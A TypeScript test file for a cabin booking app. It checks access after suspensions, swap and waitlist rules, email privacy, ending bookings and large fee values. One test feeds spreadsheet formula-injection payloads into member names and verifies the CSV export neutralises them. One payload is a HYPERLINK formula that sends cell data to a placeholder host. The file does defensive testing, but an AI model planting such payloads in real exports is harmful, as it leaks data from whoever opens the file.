import {
  CREDENTIALS,
  HOLDINGS,
  MEMBER_RECORDS,
  MY_DATA,
  type DrawView,
  type SwapChoices,
  type SwapView,
  type Waitlist,
} from '@stuga/shared';
import { sql } from 'kysely';
import { simpleParser } from 'mailparser';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createTestApp, json, testDatabaseUrl, type TestApp } from './test/helpers.js';
import { startSmtpSink } from './test/smtp-sink.js';
import { createPlan } from './test/stays.js';
import { loginAs } from './test/users.js';

/**
 * What an account holds follows what the account is now (DECISIONS §22): the one list names every
 * member column of the database, a suspension or a move down releases what the account may no
 * longer hold, and every use checks the member again — ballots in a draw and its confirmation,
 * wishes offered freed dates, swap offers accepted and approved. Runs on SQLite and again on
 * PostgreSQL; the clock is pinned at 12 September 2025.
 */
let t: TestApp;
/** The same database under a configuration that no longer names former@example.com an admin. */
let later: TestApp;
let sink: Awaited<ReturnType<typeof startSmtpSink>>;
let admin: Record<string, string>;
const DAY_MS = 86_400_000;

beforeAll(async () => {
  sink = await startSmtpSink();
  t = await createTestApp({
    seed: false,
    env: { SMTP_URL: sink.url, ADMIN_EMAILS: 'admin@example.com,former@example.com' },
  });
  later = await createTestApp({ seed: false, env: { SMTP_URL: sink.url }, shareWith: t });
  admin = (await loginAs(t, 'admin', { first_name: 'Ada', last_name: 'Admin' })).headers;
});
afterAll(async () => {
  await later.close();
  await t.close();
  await sink.close();
});
beforeEach(async () => {
  for (const table of ['swap', 'offer', 'wish', 'round', 'booking', 'stay_option'] as const) {
    await t.app.db.deleteFrom(table).execute();
  }
  await t.app.db.deleteFrom('stay_plan').execute();
});

type Headers = Record<string, string>;
type Method = 'GET' | 'POST' | 'PUT' | 'DELETE';
let client = 0;
const call = (headers: Headers, method: Method, url: string, payload?: object, on = t) =>
  on.app.inject({
    method,
    url,
    headers,
    ...(payload ? { payload } : {}),
    remoteAddress: `10.54.${(client >> 8) & 255}.${++client & 255}`,
  });
const refusal = (response: { statusCode: number; body: string }) => ({
  status: response.statusCode,
  ...(JSON.parse(response.body) as { error: string; message: string; code?: string }),
});
const suspend = async (id: number) =>
  expect((await call(admin, 'POST', `/api/admin/members/${id}/suspend`)).statusCode).toBe(200);
const moveDown = async (id: number) =>
  expect(
    (await call(admin, 'POST', `/api/admin/members/${id}/level`, { access_level: 'verified' }))
      .statusCode,
  ).toBe(200);
/** A trusted member with a name and an address of their own. */
const member = (first: string) =>
  loginAs(t, 'trusted', {
    first_name: first,
    last_name: 'Lind',
    email: `${first.toLowerCase()}.${++client}@example.com`,
  });
/** An admin by ADMIN_EMAILS on `t` only: `later`'s configuration no longer names them. */
async function formerAdmin(first: string) {
  const found = await t.app.db
    .selectFrom('users')
    .select('id')
    .where('email', '=', 'former@example.com')
    .executeTakeFirst();
  if (found) await t.app.db.deleteFrom('users').where('id', '=', found.id).execute();
  return loginAs(t, 'verified', {
    email: 'former@example.com',
    first_name: first,
    last_name: 'Former',
  });
}
/** The mails sent so far, once everything queued has gone. */
async function mailsSoFar() {
  await t.app.backgroundIdle();
  return sink.received.length;
}
/** Mails to `address` since `before`, parsed. */
const mailsTo = (address: string, before: number) =>
  Promise.all(
    sink.received
      .slice(before)
      .filter((mail) => mail.to.includes(address))
      .map((mail) => simpleParser(mail.source)),
  );

/** Every column of the database that names an account: its foreign keys to `users`, and any
 * column named as one (`user_id`, `…_by`, `actor_id`). */
async function memberColumns(): Promise<string[]> {
  const found = new Set<string>();
  const tables = await t.app.db.introspection.getTables();
  for (const table of tables) {
    for (const column of table.columns) {
      if (/(^|_)(user_id|by|actor_id|member_id|owner_id)$/.test(column.name)) {
        found.add(`${table.name}.${column.name}`);
      }
    }
  }
  if (testDatabaseUrl) {
    const { rows } = await sql<{ table_name: string; column_name: string }>`
      select kcu.table_name, kcu.column_name
      from information_schema.referential_constraints rc
      join information_schema.key_column_usage kcu
        on kcu.constraint_name = rc.constraint_name and kcu.constraint_schema = rc.constraint_schema
      join information_schema.constraint_column_usage ccu
        on ccu.constraint_name = rc.unique_constraint_name
        and ccu.constraint_schema = rc.unique_constraint_schema
      where ccu.table_name = 'users' and kcu.constraint_schema = current_schema()`.execute(
      t.app.db,
    );
    for (const row of rows) found.add(`${row.table_name}.${row.column_name}`);
  } else {
    for (const table of tables) {
      const { rows } = await sql<{ table: string; from: string }>`
        select "table", "from" from pragma_foreign_key_list(${table.name})`.execute(t.app.db);
      for (const row of rows) if (row.table === 'users') found.add(`${table.name}.${row.from}`);
    }
  }
  return [...found].sort();
}

describe('the one list of what an account holds', () => {
  it('names every member column of the database, as a holding or as a record', async () => {
    const named = new Set([
      ...Object.values(HOLDINGS).flatMap((holding) => holding.columns),
      ...Object.keys(MEMBER_RECORDS),
    ]);
    const columns = await memberColumns();
    // The tables of every kind and record (bookings, ballots, wishes, swaps among them).
    expect(columns.length).toBeGreaterThan(25);
    expect(columns.filter((column) => !named.has(column))).toEqual([]);
    // …and names nothing the database does not have.
    expect([...named].filter((column) => !columns.includes(column))).toEqual([]);
    expect(CREDENTIALS).toContain('ballot');
  });

  it('says of every member column whether its rows are the member’s own data (DECISIONS §26)', async () => {
    expect(Object.keys(MY_DATA).sort()).toEqual(await memberColumns());
  });
});

/** Rounds: blocks in summer 2026, a ballot open from today to 25 September. */
const summer = {
  name: 'Summer 2026',
  opens: '2025-09-12',
  closes: '2025-09-25',
  first_pass_cap: 1,
  total_cap: 1,
  blocks: [{ name: 'Midsummer week', from: '2026/06/15', to: '2026/06/21' }],
};
async function openRound() {
  const created = await call(admin, 'POST', '/api/admin/rounds', summer);
  expect(created.statusCode, created.body).toBe(201);
  const { round } = json<{ round: { id: number; blocks: { id: number }[] } }>(created);
  return { id: round.id, block: round.blocks[0]!.id };
}
const rank = async (headers: Headers, round: { id: number; block: number }, on = t) =>
  expect(
    (await call(headers, 'PUT', `/api/rounds/${round.id}/ballot`, { ranking: [round.block] }, on))
      .statusCode,
  ).toBe(200);
/** Moves both processes' clocks on by `days`, and back after `work`. */
async function daysLater<T>(days: number, work: () => Promise<T>): Promise<T> {
  t.clock.advance(days * DAY_MS);
  later.clock.advance(days * DAY_MS);
  try {
    return await work();
  } finally {
    t.clock.advance(-days * DAY_MS);
    later.clock.advance(-days * DAY_MS);
  }
}
const draw = async (id: number, on = t) => {
  const drawn = await call(admin, 'POST', `/api/admin/rounds/${id}/draw`, undefined, on);
  expect(drawn.statusCode, drawn.body).toBe(200);
  return json<{ draw: DrawView }>(drawn).draw;
};
const heldBy = async (userId: number) =>
  t.app.db
    .selectFrom('booking')
    .select(['from_date', 'to_date', 'source'])
    .where('user_id', '=', userId)
    .where('status', '=', 'held')
    .execute();

describe('1. a ballot answers to its member as they are now', () => {
  for (const change of ['suspended', 'moved down'] as const) {
    it(`a voter ${change} before the close gets no block; the next voter does`, async () => {
      const round = await openRound();
      const cara = await member('Cara');
      const dan = await member('Dan');
      await rank(cara.headers, round);
      await rank(dan.headers, round);
      await (change === 'suspended' ? suspend(cara.user.id) : moveDown(cara.user.id));

      const result = await daysLater(14, async () => {
        const proposed = await draw(round.id);
        const confirmed = await call(admin, 'POST', `/api/admin/rounds/${round.id}/confirm`);
        expect(confirmed.statusCode, confirmed.body).toBe(200);
        return proposed;
      });
      expect(result.order.map((line) => line.user_id)).toEqual([dan.user.id]);
      expect(result.given).toEqual([{ block_id: round.block, user_id: dan.user.id, pass: 1 }]);
      expect(await heldBy(cara.user.id)).toEqual([]);
      expect(await heldBy(dan.user.id)).toEqual([
        { from_date: '2026-06-15', to_date: '2026-06-21', source: 'round' },
      ]);
    });
  }

  it('a voter suspended after the draw: the proposed draw is discarded, never confirmed', async () => {
    const round = await openRound();
    const cara = await member('Cara');
    await rank(cara.headers, round);
    await daysLater(14, async () => {
      const proposed = await draw(round.id);
      expect(proposed.given).toEqual([{ block_id: round.block, user_id: cara.user.id, pass: 1 }]);
      await suspend(cara.user.id);
      expect(
        refusal(await call(admin, 'POST', `/api/admin/rounds/${round.id}/confirm`)),
      ).toMatchObject({ status: 409, code: 'api.round.notDecidable' });
      // Drawn again, without her: nobody gets the block, and it opens for ordinary plans.
      const again = await draw(round.id);
      expect(again.order).toEqual([]);
      expect(again.unclaimed).toEqual([round.block]);
      expect((await call(admin, 'POST', `/api/admin/rounds/${round.id}/confirm`)).statusCode).toBe(
        200,
      );
    });
    expect(await heldBy(cara.user.id)).toEqual([]);
  });

  it('an admin whose rights were removed: left out of the draw, refused at the confirmation', async () => {
    const former = await formerAdmin('Fia');
    const round = await openRound();
    await rank(former.headers, round);
    await daysLater(14, async () => {
      // Drawn by the configuration that still names her: she gets the block…
      const proposed = await draw(round.id);
      expect(proposed.given.map((g) => g.user_id)).toEqual([former.user.id]);
      // …and the one that no longer does refuses to book it for her.
      expect(
        refusal(
          await call(admin, 'POST', `/api/admin/rounds/${round.id}/confirm`, undefined, later),
        ),
      ).toMatchObject({
        status: 409,
        code: 'api.round.voterGone',
        message:
          'The draw gives a block to Fia Former, who can no longer book: discard the draw and draw again.',
      });
      expect(
        (await call(admin, 'POST', `/api/admin/rounds/${round.id}/discard`, undefined, later))
          .statusCode,
      ).toBe(200);
      expect((await draw(round.id, later)).order).toEqual([]);
    });
    expect(await heldBy(former.user.id)).toEqual([]);
  });
});

describe('2. the waitlist offers freed dates only to members who may take them', () => {
  it('passes over a suspended and a moved-down member at once, and mails neither', async () => {
    const sara = await member('Sara');
    const dora = await member('Dora');
    const wilma = await member('Wilma');
    for (const who of [sara, dora, wilma]) {
      const made = await call(who.headers, 'POST', '/api/waitlist', {
        from: '2025/10/01',
        to: '2025/10/20',
        min_nights: 3,
      });
      expect(made.statusCode).toBe(201);
    }
    await suspend(sara.user.id);
    await moveDown(dora.user.id);
    const before = await mailsSoFar();

    const owner = await member('Olle');
    const plan = await createPlan(t, owner.user.id, {
      expiry: '2025-09-30',
      options: [{ from: '2025-10-06', to: '2025-10-10', status: 'approved' }],
    });
    const cancelled = await call(
      owner.headers,
      'POST',
      `/api/stay-options/${plan.optionIds[0]}/cancel`,
    );
    expect(cancelled.statusCode).toBe(200);
    await t.app.backgroundIdle();

    // Wilma, third in line, is offered the dates at once.
    const wilmas = json<Waitlist>(await call(wilma.headers, 'GET', '/api/waitlist'));
    expect(wilmas.offers).toMatchObject([{ from: '2025/10/06', to: '2025/10/10', status: 'open' }]);
    const offers = await t.app.db.selectFrom('offer').selectAll().execute();
    expect(offers).toHaveLength(1);
    // Their wishes ended with the change; neither was mailed an offer.
    const ended = await t.app.db
      .selectFrom('wish')
      .select(['user_id', 'status'])
      .where('user_id', 'in', [sara.user.id, dora.user.id])
      .execute();
    expect(ended.map((wish) => wish.status)).toEqual(['ended', 'ended']);
    await t.app.backgroundIdle();
    for (const who of [sara, dora]) expect(await mailsTo(who.user.email, before)).toEqual([]);
    expect((await mailsTo(wilma.user.email, before)).map((mail) => mail.subject)).toHaveLength(1);
  });

  it('a suspension passes an open offer to the next in line', async () => {
    const sara = await member('Sara');
    const wilma = await member('Wilma');
    for (const who of [sara, wilma]) {
      await call(who.headers, 'POST', '/api/waitlist', {
        from: '2025/10/01',
        to: '2025/10/20',
        min_nights: 3,
      });
    }
    const owner = await member('Olle');
    const plan = await createPlan(t, owner.user.id, {
      expiry: '2025-09-30',
      options: [{ from: '2025-10-06', to: '2025-10-10', status: 'approved' }],
    });
    await call(owner.headers, 'POST', `/api/stay-options/${plan.optionIds[0]}/cancel`);
    await t.app.backgroundIdle();
    expect(json<Waitlist>(await call(sara.headers, 'GET', '/api/waitlist')).offers).toHaveLength(1);

    await suspend(sara.user.id);
    const wilmas = json<Waitlist>(await call(wilma.headers, 'GET', '/api/waitlist'));
    expect(wilmas.offers).toMatchObject([{ from: '2025/10/06', to: '2025/10/10', status: 'open' }]);
  });
});

/** A member with a booked stay; answers them and its booking id. */
async function withStay(first: string, from: string, to: string, former = false) {
  const who = former ? await formerAdmin(first) : await member(first);
  const plan = await createPlan(t, who.user.id, {
    expiry: '2025-09-30',
    options: [{ from, to, status: 'approved' }],
  });
  const booking = await t.app.db
    .selectFrom('booking')
    .select('id')
    .where('option_id', '=', plan.optionIds[0]!)
    .executeTakeFirstOrThrow();
  return { ...who, bookingId: booking.id };
}
const offer = (from: { headers: Headers; bookingId: number }, to: number, theirs: number | null) =>
  call(from.headers, 'POST', `/api/bookings/${from.bookingId}/offer`, {
    to_user_id: to,
    their_booking_id: theirs,
    note: '',
  });

describe('3. a swap never hands a stay to a member who may no longer hold it', () => {
  it('a suspension withdraws the offer: the other cannot accept, and is told', async () => {
    const hugo = await withStay('Hugo', '2025-10-06', '2025-10-10');
    const ines = await withStay('Ines', '2025-11-03', '2025-11-07');
    const made = await offer(hugo, ines.user.id, ines.bookingId);
    expect(made.statusCode, made.body).toBe(201);
    const { swap } = json<{ swap: SwapView }>(made);
    const before = await mailsSoFar();

    await suspend(hugo.user.id);
    expect(refusal(await call(ines.headers, 'POST', `/api/swaps/${swap.id}/accept`))).toMatchObject(
      { status: 409, code: 'api.swap.answered' },
    );
    expect(await heldBy(hugo.user.id)).toEqual([
      { from_date: '2025-10-06', to_date: '2025-10-10', source: 'option' },
    ]);
    expect(await heldBy(ines.user.id)).toEqual([
      { from_date: '2025-11-03', to_date: '2025-11-07', source: 'option' },
    ]);
    await t.app.backgroundIdle();
    const told = await mailsTo(ines.user.email, before);
    expect(told.map((mail) => mail.subject)).toEqual([
      'An offer no longer stands: 6 Oct 2025 – 10 Oct 2025',
    ]);
  });

  it('in high season, a suspension after the acceptance leaves nothing for an admin to approve', async () => {
    const hugo = await withStay('Hugo', '2026-07-06', '2026-07-10');
    const ines = await withStay('Ines', '2026-07-20', '2026-07-24');
    const { swap } = json<{ swap: SwapView }>(await offer(hugo, ines.user.id, ines.bookingId));
    expect(swap.needs_admin).toBe(true);
    const accepted = await call(ines.headers, 'POST', `/api/swaps/${swap.id}/accept`);
    expect(json<{ swap: SwapView }>(accepted).swap.status).toBe('accepted');

    await moveDown(hugo.user.id);
    expect(refusal(await call(admin, 'POST', `/api/admin/swaps/${swap.id}/approve`))).toMatchObject(
      { status: 409, code: 'api.swap.answered' },
    );
    expect((await heldBy(hugo.user.id)).map((b) => b.from_date)).toEqual(['2026-07-06']);
    expect((await heldBy(ines.user.id)).map((b) => b.from_date)).toEqual(['2026-07-20']);
  });

  it('an offerer whose admin rights were removed: the acceptance and the approval refuse', async () => {
    const fia = await withStay('Fia', '2026-07-06', '2026-07-10', true);
    const ines = await withStay('Ines', '2026-07-20', '2026-07-24');
    const { swap } = json<{ swap: SwapView }>(await offer(fia, ines.user.id, ines.bookingId));
    expect(
      refusal(await call(ines.headers, 'POST', `/api/swaps/${swap.id}/accept`, undefined, later)),
    ).toMatchObject({
      status: 409,
      code: 'api.swap.memberGone',
      message: 'This offer no longer stands: one of you can no longer book stays.',
    });
    expect((await heldBy(ines.user.id)).map((b) => b.from_date)).toEqual(['2026-07-20']);
  });
});

describe('4. a swap offer names only stays the offerer may see', () => {
  it('answers an unknown, a hidden and a wrong-owner booking alike, and mails nobody', async () => {
    const set = await call(admin, 'PUT', '/api/admin/planning-horizon', {
      horizon_date: '2025-12-31',
    });
    expect(set.statusCode).toBe(200);
    const anna = await withStay('Anna', '2025-10-06', '2025-10-10');
    const carl = await withStay('Carl', '2026-03-02', '2026-03-06');
    const bert = await withStay('Bert', '2025-11-03', '2025-11-07');
    // Carl's stay is past the horizon: not on Anna's swap form…
    const choices = json<SwapChoices>(await call(anna.headers, 'GET', '/api/swaps/stays'));
    expect(choices.theirs.map((stay) => stay.booking_id)).toEqual([bert.bookingId]);
    const before = await mailsSoFar();
    const answers = [
      await offer(anna, carl.user.id, carl.bookingId), // hidden by the horizon
      await offer(anna, carl.user.id, 999_999), // unknown
      await offer(anna, carl.user.id, bert.bookingId), // someone else's
    ].map(refusal);
    expect(answers).toEqual(
      Array(3).fill({
        status: 404,
        error: 'No such stay.',
        message: 'No such stay.',
        code: 'api.stay.noBooking',
      }),
    );
    // Nor can a stay of someone else's be offered as one's own: answered as an unknown one.
    expect(
      refusal(await offer({ ...anna, bookingId: bert.bookingId }, carl.user.id, null)),
    ).toEqual(refusal(await offer({ ...anna, bookingId: 999_999 }, carl.user.id, null)));
    await t.app.backgroundIdle();
    expect(await mailsTo(carl.user.email, before)).toEqual([]);
    expect(await t.app.db.selectFrom('swap').selectAll().execute()).toEqual([]);
    await t.app.db.deleteFrom('settings').where('key', '=', 'planning_horizon').execute();
  });
});

describe('7. no member sees another member’s email address', () => {
  it('a member without a name is asked for one before anything others see, and is never named by address', async () => {
    const round = await openRound();
    const nameless = await loginAs(t, 'trusted', {
      first_name: '',
      last_name: '',
      email: 'nameless@example.com',
    });
    const ballot = await call(nameless.headers, 'PUT', `/api/rounds/${round.id}/ballot`, {
      ranking: [round.block],
    });
    expect(refusal(ballot)).toMatchObject({
      status: 409,
      code: 'api.access.name',
      message:
        'Please add your name on your profile first: other members see it with what you do here.',
    });
    const wish = await call(nameless.headers, 'POST', '/api/waitlist', {
      from: '2025/10/01',
      to: '2025/10/20',
      min_nights: 3,
    });
    expect(refusal(wish)).toMatchObject({ status: 409, code: 'api.access.name' });

    // A ballot from before the rule: the published draw names no address.
    await t.app.db
      .insertInto('round_ballot')
      .values({
        round_id: round.id,
        user_id: nameless.user.id,
        block_id: round.block,
        rank: 1,
        updated_at: '2025-09-12T07:17:00.000Z',
      })
      .execute();
    const published = await daysLater(14, async () => {
      await draw(round.id);
      await call(admin, 'POST', `/api/admin/rounds/${round.id}/confirm`);
      const other = await member('Olga');
      return (await call(other.headers, 'GET', `/api/rounds/${round.id}/draw`)).body;
    });
    expect(published).toContain(`"user_id":${nameless.user.id}`);
    expect(published).not.toContain('@');

    // Nor is a nameless member offered on the swap form, with a stay or without.
    await createPlan(t, nameless.user.id, {
      expiry: '2025-09-30',
      options: [{ from: '2025-12-01', to: '2025-12-05', status: 'approved' }],
    });
    const anna = await member('Anna');
    const form = (await call(anna.headers, 'GET', '/api/swaps/stays')).body;
    expect(form).not.toContain('@');
    expect(
      json<SwapChoices>(await call(anna.headers, 'GET', '/api/swaps/stays')).members,
    ).not.toContainEqual(expect.objectContaining({ id: nameless.user.id }));
    await t.app.db.deleteFrom('round_ballot').execute();
  });

  it('the Swish message of a member without a name carries no address', async () => {
    await call(admin, 'PUT', '/api/admin/fees', {
      fee: { model: 'stay', stay: 250_000, night: 0, adult: 0, child: 0, cleaning: 0 },
      beds: 8,
      swish: '070-123 45 67',
    });
    try {
      const nameless = await loginAs(t, 'trusted', {
        first_name: '',
        last_name: '',
        email: 'no.name@example.com',
      });
      const plan = await createPlan(t, nameless.user.id, {
        expiry: '2025-09-30',
        options: [{ from: '2025-10-06', to: '2025-10-10', status: 'approved' }],
      });
      const booking = await t.app.db
        .updateTable('booking')
        .set({ fee: 250_000 })
        .where('option_id', '=', plan.optionIds[0]!)
        .returning('id')
        .executeTakeFirstOrThrow();
      const payment = await call(nameless.headers, 'GET', `/api/bookings/${booking.id}/payment`);
      expect(payment.statusCode, payment.body).toBe(200);
      expect(payment.body).toContain(`Stuga ${booking.id}`);
      expect(payment.body).not.toContain('no.name');
    } finally {
      await t.app.db.deleteFrom('settings').execute();
    }
  });
});

describe('any booking can be ended by an admin, whatever made it', () => {
  it("ends a round's stay and a plan's stay by one call, with history, mail and the waitlist", async () => {
    const round = await openRound();
    const cara = await member('Cara');
    await rank(cara.headers, round);
    await daysLater(14, async () => {
      await draw(round.id);
      await call(admin, 'POST', `/api/admin/rounds/${round.id}/confirm`);
    });
    const given = await t.app.db
      .selectFrom('booking')
      .select(['id', 'option_id'])
      .where('user_id', '=', cara.user.id)
      .executeTakeFirstOrThrow();
    expect(given.option_id).toBeNull();
    const waiting = await member('Wilma');
    await call(waiting.headers, 'POST', '/api/waitlist', {
      from: '2026/06/01',
      to: '2026/06/30',
      min_nights: 3,
    });
    const before = await mailsSoFar();

    expect(
      refusal(await call(admin, 'POST', `/api/admin/bookings/${given.id}/end`, { reason: ' ' })),
    ).toMatchObject({ status: 400, message: 'Decline reason is required' });
    const ended = await call(admin, 'POST', `/api/admin/bookings/${given.id}/end`, {
      reason: 'The roof is being mended that week.',
    });
    expect(ended.statusCode, ended.body).toBe(200);
    expect(json(ended)).toEqual({ message: 'The stay is ended. Its dates are free again.' });
    expect(await heldBy(cara.user.id)).toEqual([]);
    const history = await t.app.db
      .selectFrom('option_history')
      .select(['from_status', 'to_status', 'reason'])
      .where('booking_id', '=', given.id)
      .orderBy('id')
      .execute();
    expect(history.at(-1)).toEqual({
      from_status: 'approved',
      to_status: 'declined',
      reason: 'The roof is being mended that week.',
    });
    await t.app.backgroundIdle();
    const told = await mailsTo(cara.user.email, before);
    expect(told.map((mail) => mail.subject)).toEqual([
      'Approved stay declined: 15 June 2026 – 21 June 2026',
    ]);
    expect(told[0]!.text).toContain('The roof is being mended that week.');
    // Its days went to the waitlist.
    expect(json<Waitlist>(await call(waiting.headers, 'GET', '/api/waitlist')).offers).toHaveLength(
      1,
    );
    // Ended once: a second time is refused.
    expect(
      refusal(
        await call(admin, 'POST', `/api/admin/bookings/${given.id}/end`, { reason: 'Again' }),
      ),
    ).toMatchObject({ status: 409, code: 'api.stay.notEndable' });

    // A stay made from a plan ends the same way, its option declined with it.
    const planned = await withStay('Per', '2025-10-06', '2025-10-10');
    const endedPlan = await call(admin, 'POST', `/api/admin/bookings/${planned.bookingId}/end`, {
      reason: 'Water damage.',
    });
    expect(endedPlan.statusCode).toBe(200);
    const option = await t.app.db
      .selectFrom('stay_option as o')
      .innerJoin('booking as b', 'b.option_id', 'o.id')
      .select(['o.status', 'b.status as booking'])
      .where('b.id', '=', planned.bookingId)
      .executeTakeFirstOrThrow();
    expect(option).toEqual({ status: 'declined', booking: 'declined' });
    expect(
      refusal(await call(admin, 'POST', '/api/admin/bookings/999999/end', { reason: 'x' })),
    ).toMatchObject({ status: 404, message: 'No such stay.' });
  });

  it('tells admins every booked stay’s booking, and whether they may end it', async () => {
    const per = await withStay('Per', '2025-10-06', '2025-10-10');
    const seen = json<{ stay_plans: { options: { booking_id?: number }[] }[] }>(
      await call(admin, 'GET', '/api/stay-plans'),
    );
    expect(seen.stay_plans.flatMap((plan) => plan.options)).toEqual([
      expect.objectContaining({ booking_id: per.bookingId }),
    ]);
    const other = await member('Olga');
    const theirs = json<{ stay_plans: { options: { booking_id?: number }[] }[] }>(
      await call(other.headers, 'GET', '/api/stay-plans'),
    );
    expect(theirs.stay_plans.flatMap((plan) => plan.options)[0]).not.toHaveProperty('booking_id');
  });
});

describe('5. the payments spreadsheet holds no formula', () => {
  it('neutralises names and addresses that would start one, as OWASP says', async () => {
    const hostile = [
      ['=HYPERLINK("http://x/?"&A1,"Click")', 'Berg', 'h1@example.com'],
      ['-2+3', 'Berg', 'h2@example.com'],
      ['@SUM(1+1)', 'Berg', 'h3@example.com'],
      ['Eva', 'Berg', '=cmd@example.com'],
    ] as const;
    for (const [index, [first, last, email]] of hostile.entries()) {
      const who = await loginAs(t, 'trusted', { first_name: first, last_name: last, email });
      const plan = await createPlan(t, who.user.id, {
        expiry: '2025-09-30',
        options: [
          {
            from: `2025-10-${String(1 + index * 7).padStart(2, '0')}`,
            to: `2025-10-${String(3 + index * 7).padStart(2, '0')}`,
            status: 'approved',
          },
        ],
      });
      await t.app.db
        .updateTable('booking')
        .set({ fee: 250_000 })
        .where('option_id', '=', plan.optionIds[0]!)
        .execute();
    }
    const answer = await call(admin, 'GET', '/api/admin/payments.csv?year=2025');
    expect(answer.statusCode).toBe(200);
    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
    const cells = answer.body
      .trim()
      .split('\r\n')
      .slice(1)
      .flatMap((line) => line.split(','));
    // No cell, quoted or not, begins a formula.
    expect(cells.filter((cell) => /^"?[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(answer.body).toContain(`"'=HYPERLINK(""http://x/?""&A1`);
    expect(answer.body).toContain("'-2+3 Berg");
    expect(answer.body).toContain("'@SUM(1+1) Berg");
    expect(answer.body).toContain("'=cmd@example.com");
  });
});

describe('8. money fits its columns on both engines', () => {
  it('keeps the largest fee the settings allow, approved and read back to the öre', async () => {
    const fees = {
      fee: {
        model: 'person_night',
        stay: 10_000_000,
        night: 10_000_000,
        adult: 10_000_000,
        child: 10_000_000,
        cleaning: 10_000_000,
      },
      beds: 40,
      swish: null,
    };
    const set = await call(admin, 'PUT', '/api/admin/fees', fees);
    expect(set.statusCode, set.body).toBe(200);
    expect(
      (await call(admin, 'PUT', '/api/admin/longest-stay', { max_stay_nights: 90 })).statusCode,
    ).toBe(200);
    try {
      const maja = await member('Maja');
      const saved = await call(maja.headers, 'POST', '/api/stay-plans', {
        title: 'All of us',
        expiry_date: '2025/09/30',
        options: [
          {
            from: '2025/10/01',
            to: '2025/12/30',
            status: 'pending',
            party: { adults: 20, children: 0, guests: 20, pets: false },
          },
        ],
      });
      expect(saved.statusCode, saved.body).toBe(201);
      const optionId = json<{ stay_plan: { options: { id: number }[] } }>(saved).stay_plan
        .options[0]!.id;
      const approved = await call(admin, 'POST', `/api/admin/approve-option/${optionId}`);
      expect(approved.statusCode, approved.body).toBe(200);
      // 90 nights × 40 people × 100 000 kr, and the cleaning: past 2³¹ öre.
      const largest = 90 * 40 * 10_000_000 + 10_000_000;
      expect(largest).toBeGreaterThan(2 ** 31);
      const booking = await t.app.db
        .selectFrom('booking')
        .select(['id', 'fee'])
        .where('option_id', '=', optionId)
        .executeTakeFirstOrThrow();
      expect(booking.fee).toBe(largest);
      const payment = await call(maja.headers, 'GET', `/api/bookings/${booking.id}/payment`);
      expect(payment.statusCode, payment.body).toBe(200);
      expect(json(payment).fee).toBe(largest);
    } finally {
      await t.app.db.deleteFrom('settings').execute();
    }
  });
});
